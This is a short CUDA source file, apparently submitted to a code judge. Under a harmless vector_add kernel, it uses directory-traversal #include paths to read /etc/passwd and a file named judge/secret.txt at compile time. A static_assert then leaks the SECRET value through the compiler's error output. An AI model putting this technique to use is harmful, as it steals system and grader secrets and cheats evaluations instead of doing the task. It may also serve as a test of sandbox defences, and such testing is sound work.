// Paths that start in the folders of the toolkit's headers lead to the judge's file and to the system's.
#include <cuda_fp16.h>
#include <crt/../../../../../../../../../../etc/passwd>
#include <cooperative_groups/../../../../../../../../../../the/judge/secret.txt>
#include <..\..\..\..\..\..\..\..\..\..\etc\passwd>
#include "cub/./../../../../../../../../../../../etc/passwd"

static_assert(sizeof(SECRET) == 1, SECRET);

__global__ void vector_add(const float *a, const float *b, float *c, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) {
        c[i] = a[i] + b[i];
    }
}
